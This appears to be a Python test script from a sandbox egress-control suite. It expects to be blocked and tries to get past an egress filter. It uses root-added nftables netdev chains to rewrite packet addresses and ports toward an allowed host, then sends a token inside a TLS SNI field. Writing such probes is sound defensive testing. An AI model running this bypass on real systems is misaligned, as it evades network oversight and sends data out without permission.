#!/usr/bin/python3
# id: b20l_nft_egress_proof
# title: as b20k, by netdev chains that rewrite both ways behind every hook of a cgroup
# needs: root
# expect: block
# why: as b20g, and as b20k
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess
def f():
    out, back = f'ip daddr 10.95.0.1 tcp dport 7 tcp dport set 443 ip daddr set {ALLOW}', f'ip saddr {ALLOW} tcp sport 443 tcp sport set 7 ip saddr set 10.95.0.1'
    subprocess.run(f'nft add table netdev bpe && nft "add chain netdev bpe o {{ type filter hook egress device v0 priority 0 ; }}" && nft "add chain netdev bpe i {{ type filter hook ingress device v0 priority 0 ; }}" && nft add rule netdev bpe o {out} && nft add rule netdev bpe i {back}', shell=True, check=True)
    s = socket.socket(); s.settimeout(5); s.setsockopt(6, 1, 1)
    try: s.connect(('10.95.0.1', 7)); tls(ALLOW, f'{TOK}.{FNAME}', FNAME, s=s)
    finally: subprocess.run('nft delete table netdev bpe', shell=True)
resolve(); attempt(f, dst=(ALLOW,), chan=('sni', 'tls'))
